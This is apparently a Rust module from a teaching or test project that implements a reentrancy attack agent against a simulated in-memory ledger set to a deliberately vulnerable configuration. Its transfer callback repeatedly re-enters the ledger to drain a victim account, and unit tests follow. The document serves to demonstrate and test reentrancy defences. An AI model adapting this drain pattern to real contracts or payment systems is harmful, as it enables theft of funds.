//! # Attack Agent
//!
//! A recipient that re-enters the ledger from its transfer callback.
//!
//! ## Exploit
//!
//! 1. The owner calls [`AttackAgent::attack`] with a target amount
//! 2. The agent requests a transfer from the victim to itself and asks to
//!    be notified
//! 3. In the callback, while its balance is below the target, it requests
//!    the same transfer again before returning
//! 4. Under `InteractionsFirst` every nested request passes the balance
//!    check against the undebited victim, and each level credits the agent
//!    on the way out
//!
//! The agent stops re-entering at the ledger's depth ceiling rather than
//! tripping it, the way a contract would stop short of running out of gas.
//! Errors from nested calls are not caught, so a guard or a balance check
//! that rejects the re-entry rejects the whole attack.

use serde::{Deserialize, Serialize};
use tracing::{debug, info, warn};

use reentry_ledger::{
    AccountId, Amount, Ledger, Result as LedgerResult, TransferIntent, TransferReceiver,
};

use crate::error::{AttackError, Result};

/// Outcome of a completed attack.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AttackReport {
    /// Target amount passed to `attack`
    pub requested: Amount,
    /// Amount requested per transfer
    pub chunk: Amount,
    /// Net increase of the agent's balance
    pub stolen: Amount,
    /// Nested transfers issued from the callback
    pub reentries: usize,
    /// Deepest call depth observed
    pub max_depth_reached: usize,
}

impl AttackReport {
    /// Returns true if the agent ended up with more than `supply`.
    #[must_use]
    pub fn exceeds(&self, supply: Amount) -> bool {
        self.stolen > supply
    }
}

/// Exploit harness driving a reentrancy attack against a [`Ledger`].
///
/// # Example
///
/// ```rust
/// use reentry_attack::AttackAgent;
/// use reentry_ledger::{AccountId, Ledger, LedgerConfig};
///
/// let owner = AccountId::new("attacker");
/// let mut ledger = Ledger::with_config(20, "victim", LedgerConfig::vulnerable())?;
/// let mut agent = AttackAgent::new(owner.clone(), "agent", "victim");
///
/// let report = agent.attack(&owner, &mut ledger, 1_000_000)?;
/// assert!(report.exceeds(20));
/// assert!(ledger.check_invariant().is_err());
/// # Ok::<(), Box<dyn std::error::Error>>(())
/// ```
#[derive(Debug, Clone)]
pub struct AttackAgent {
    owner: AccountId,
    account: AccountId,
    victim: AccountId,
    threshold: Amount,
    chunk: Amount,
    reentries: usize,
    max_depth_reached: usize,
}

impl AttackAgent {
    /// Creates an agent.
    ///
    /// # Arguments
    ///
    /// * `owner` - The only identity allowed to call [`attack`](Self::attack)
    /// * `account` - Ledger account credited by the attack
    /// * `victim` - Ledger account drained by the attack
    pub fn new(
        owner: impl Into<AccountId>,
        account: impl Into<AccountId>,
        victim: impl Into<AccountId>,
    ) -> Self {
        Self {
            owner: owner.into(),
            account: account.into(),
            victim: victim.into(),
            threshold: 0,
            chunk: 0,
            reentries: 0,
            max_depth_reached: 0,
        }
    }

    /// Returns the configured attacker identity.
    #[must_use]
    pub fn attacker(&self) -> &AccountId {
        &self.owner
    }

    /// Returns the account the attack credits.
    #[must_use]
    pub fn account(&self) -> &AccountId {
        &self.account
    }

    /// Returns the account the attack drains.
    #[must_use]
    pub fn victim(&self) -> &AccountId {
        &self.victim
    }

    /// Runs the attack for up to `amount`.
    ///
    /// The per-transfer chunk is the smaller of `amount` and the victim's
    /// current balance.
    ///
    /// # Errors
    ///
    /// - [`AttackError::NotOwner`] if `caller` is not the owner
    /// - [`AttackError::InvalidAmount`] if `amount` is zero
    /// - [`AttackError::Ledger`] if the ledger rejects the top-level
    ///   transfer or any re-entry (the ledger has reverted everything)
    pub fn attack(
        &mut self,
        caller: &AccountId,
        ledger: &mut Ledger,
        amount: Amount,
    ) -> Result<AttackReport> {
        if caller != &self.owner {
            warn!("Attack by non-owner {} rejected", caller);
            return Err(AttackError::NotOwner {
                caller: caller.clone(),
            });
        }
        if amount == 0 {
            return Err(AttackError::InvalidAmount);
        }

        self.threshold = amount;
        self.chunk = amount.min(ledger.balance_of(&self.victim));
        self.reentries = 0;
        self.max_depth_reached = 0;

        let before = ledger.balance_of(&self.account);
        info!(
            "Attack started: target {}, chunk {}, ordering {:?}, guard {}",
            amount,
            self.chunk,
            ledger.config().ordering,
            ledger.config().reentrancy_guard
        );

        let victim = self.victim.clone();
        let account = self.account.clone();
        if let Err(err) = ledger.transfer_and_call(&victim, &account, self.chunk, self) {
            warn!("Attack failed after {} re-entries: {}", self.reentries, err);
            return Err(err.into());
        }

        let stolen = ledger.balance_of(&self.account).saturating_sub(before);
        info!(
            "Attack finished: stole {} with {} re-entries, depth {}",
            stolen, self.reentries, self.max_depth_reached
        );

        Ok(AttackReport {
            requested: amount,
            chunk: self.chunk,
            stolen,
            reentries: self.reentries,
            max_depth_reached: self.max_depth_reached,
        })
    }
}

impl TransferReceiver for AttackAgent {
    fn on_transfer_received(&mut self, ledger: &mut Ledger, intent: &TransferIntent) -> LedgerResult<()> {
        let depth = ledger.call_depth();
        self.max_depth_reached = self.max_depth_reached.max(depth);

        if intent.to != self.account {
            return Ok(());
        }
        if ledger.balance_of(&self.account) >= self.threshold {
            return Ok(());
        }
        if depth >= ledger.max_call_depth() {
            debug!("Depth bound {} reached, unwinding", depth);
            return Ok(());
        }

        self.reentries += 1;
        debug!("Re-entering at depth {}", depth);
        ledger.transfer_and_call(&intent.from, &intent.to, self.chunk, self)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use reentry_ledger::{LedgerConfig, LedgerError};

    #[test]
    fn test_attacker_accessor() {
        let agent = AttackAgent::new("attacker", "agent", "victim");
        assert_eq!(agent.attacker(), &AccountId::new("attacker"));
        assert_eq!(agent.account(), &AccountId::new("agent"));
        assert_eq!(agent.victim(), &AccountId::new("victim"));
    }

    #[test]
    fn test_non_owner_rejected_before_ledger() {
        let mut ledger = Ledger::with_config(20, "victim", LedgerConfig::vulnerable()).unwrap();
        let mut agent = AttackAgent::new("attacker", "agent", "victim");

        let result = agent.attack(&AccountId::new("alice"), &mut ledger, 1);
        assert_eq!(
            result,
            Err(AttackError::NotOwner {
                caller: AccountId::new("alice")
            })
        );
        assert_eq!(ledger.events().len(), 1);
    }

    #[test]
    fn test_zero_amount_rejected() {
        let mut ledger = Ledger::new(20, "victim");
        let mut agent = AttackAgent::new("attacker", "agent", "victim");
        let owner = agent.attacker().clone();

        assert_eq!(
            agent.attack(&owner, &mut ledger, 0),
            Err(AttackError::InvalidAmount)
        );
    }

    #[test]
    fn test_empty_victim_rejected_by_ledger() {
        let mut ledger = Ledger::new(20, "someone_else");
        let mut agent = AttackAgent::new("attacker", "agent", "victim");
        let owner = agent.attacker().clone();

        assert_eq!(
            agent.attack(&owner, &mut ledger, 5),
            Err(AttackError::Ledger(LedgerError::InvalidAmount))
        );
    }

    #[test]
    fn test_callback_ignores_foreign_recipient() {
        let mut ledger = Ledger::new(20, "victim");
        let mut agent = AttackAgent::new("attacker", "agent", "victim");

        ledger
            .transfer_and_call(&"victim".into(), &"bystander".into(), 5, &mut agent)
            .unwrap();
        assert_eq!(agent.reentries, 0);
        assert_eq!(agent.max_depth_reached, 1);
    }

    #[test]
    fn test_report_exceeds() {
        let report = AttackReport {
            requested: 100,
            chunk: 20,
            stolen: 40,
            reentries: 1,
            max_depth_reached: 2,
        };
        assert!(report.exceeds(20));
        assert!(!report.exceeds(40));
    }
}
